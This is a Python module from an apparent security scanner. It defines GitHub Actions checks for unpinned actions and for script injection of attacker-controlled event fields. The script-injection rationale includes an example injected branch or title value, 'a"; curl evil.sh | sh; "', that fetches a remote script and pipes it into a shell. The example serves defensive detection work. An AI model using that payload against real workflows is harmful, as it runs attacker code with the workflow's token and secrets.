"""GitHub Actions checks: pinning, injection, triggers, permissions, credentials."""

from __future__ import annotations

import re
from collections.abc import Iterator
from functools import partial

from pavedroad.analyzers.iac.check import Check, Project, Violation
from pavedroad.analyzers.iac.model import Node, Resource
from pavedroad.analyzers.pipelines.github import EXPRESSION, jobs, parse_uses, steps
from pavedroad.core.findings import Confidence, Severity

github_check = partial(Check, frameworks=("github-actions",), kinds=("workflow", "action"))

# Contexts an outside contributor controls (from GitHub's security hardening guide).
ATTACKER_CONTROLLED = re.compile(
    r"github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)"
    r"|comment\.body|review\.body|review_comment\.body|pages\.[^.\s]+\.page_name|commits\.[^.\s]+\.(?:message|author\.email|author\.name)"
    r"|head_commit\.(?:message|author\.email|author\.name)|discussion\.(?:title|body)|workflow_run\.(?:head_branch|display_title|head_commit\.message))"
    r"|github\.head_ref"
)


def _uses_in(resource: Resource) -> Iterator[tuple[Node, str, str]]:
    """(container, uses, job) for every step and reusable-workflow job that `uses:` something."""
    for step in steps(resource):
        uses = step.node.get("uses")
        if isinstance(uses, str):
            yield step.node, uses, step.job_id
    for job_id, job in jobs(resource):
        uses = job.get("uses")
        if isinstance(uses, str):
            yield job, uses, job_id


def _unpinned(resource: Resource, project: Project) -> Iterator[Violation]:
    for container, uses, job_id in _uses_in(resource):
        reference = parse_uses(uses)
        if reference.pinned or reference.first_party:
            continue
        yield Violation(container.line_of("uses"), f"job {job_id}: {uses} is not pinned to a full commit SHA", uses)


def _unpinned_first_party(resource: Resource, project: Project) -> Iterator[Violation]:
    for container, uses, job_id in _uses_in(resource):
        reference = parse_uses(uses)
        if reference.pinned or not reference.first_party:
            continue
        yield Violation(container.line_of("uses"), f"job {job_id}: {uses} is not pinned to a full commit SHA", uses)


def _scripts(step: Node) -> Iterator[tuple[Node, str, str]]:
    """(container, key, script) for a step's `run:` and an `actions/github-script` step's `with.script`."""
    if isinstance(step.get("run"), str):
        yield step, "run", step["run"]
    uses = step.get("uses")
    with_ = step.get("with")
    is_github_script = isinstance(uses, str) and uses.startswith("actions/github-script")
    if is_github_script and isinstance(with_, Node) and isinstance(with_.get("script"), str):
        yield with_, "script", with_["script"]


def _script_injection(resource: Resource, project: Project) -> Iterator[Violation]:
    for step in steps(resource):
        for container, key, script in _scripts(step.node):
            for expression in EXPRESSION.findall(script):
                match = ATTACKER_CONTROLLED.search(expression)
                if match:
                    yield Violation(
                        container.line_of(key) + _line_offset(script, expression),
                        f"job {step.job_id}: ${{{{ {match.group(0)} }}}} expands into a script; an attacker"
                        " controls its text",
                        match.group(0),
                    )


def _line_offset(script: str, expression: str) -> int:
    """Lines from the `run:` key to the expression: a multi-line script is a block scalar starting below the key."""
    index = script.find(expression)
    if index < 0 or "\n" not in script:
        return 0
    return script[:index].count("\n") + 1


CHECKS: tuple[Check, ...] = (
    github_check(
        id="pipelines/gha-unpinned-action",
        title="Third-party action not pinned to a commit SHA",
        severity=Severity.HIGH,
        evaluate=_unpinned,
        rationale="A tag or branch can be moved by whoever controls the action's repository; a compromised"
        " or malicious maintainer (tj-actions/changed-files, 2025) then runs code in every workflow that uses"
        " it, with its secrets and token.",
        fix="Pin to the full 40-character commit SHA and keep the version in a comment (`@<sha> # v4.1.1`);"
        " let Dependabot or Renovate update the pins.",
        insecure_example="- uses: tj-actions/changed-files@v45",
        secure_example="- uses: tj-actions/changed-files@c3a1bb2c992d77180ae65be6ae6c166cf40f857c # v45.0.3",
        controls=("CIS-SSCS-1.4.3", "SLSA-L3", "NIST-800-53-SR-11", "SOC2-CC8.1"),
        cwe=("CWE-829",),
        references=(
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#using-third-party-actions",
        ),
    ),
    github_check(
        id="pipelines/gha-unpinned-first-party-action",
        title="First-party action not pinned to a commit SHA",
        severity=Severity.LOW,
        confidence=Confidence.MEDIUM,
        evaluate=_unpinned_first_party,
        rationale="Actions owned by GitHub (actions/*, github/*) are lower risk than third-party ones, but a"
        " tag is still mutable; strict supply-chain policies pin everything.",
        fix="Pin to the full commit SHA with the version in a comment.",
        insecure_example="- uses: actions/checkout@v4",
        secure_example="- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2",
        controls=("CIS-SSCS-1.4.3", "SLSA-L3"),
        cwe=("CWE-829",),
    ),
    github_check(
        id="pipelines/gha-script-injection",
        title="Attacker-controlled context expanded into a script",
        severity=Severity.CRITICAL,
        evaluate=_script_injection,
        rationale="`${{ }}` is substituted into the script text before the shell runs it: a pull request"
        ' title or branch name like `a"; curl evil.sh | sh; "` becomes code running with the workflow\'s'
        " token and secrets.",
        fix="Pass the value through an environment variable and quote it in the shell:"
        ' `env: TITLE: ${{ github.event.issue.title }}` then `echo "$TITLE"`.',
        insecure_example='- run: echo "${{ github.event.issue.title }}"',
        secure_example='- env:\n    TITLE: ${{ github.event.issue.title }}\n  run: echo "$TITLE"',
        controls=("CIS-SSCS-1.4.1", "NIST-800-53-SI-10", "SOC2-CC8.1"),
        cwe=("CWE-78", "CWE-94"),
        references=(
            "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
        ),
    ),
)
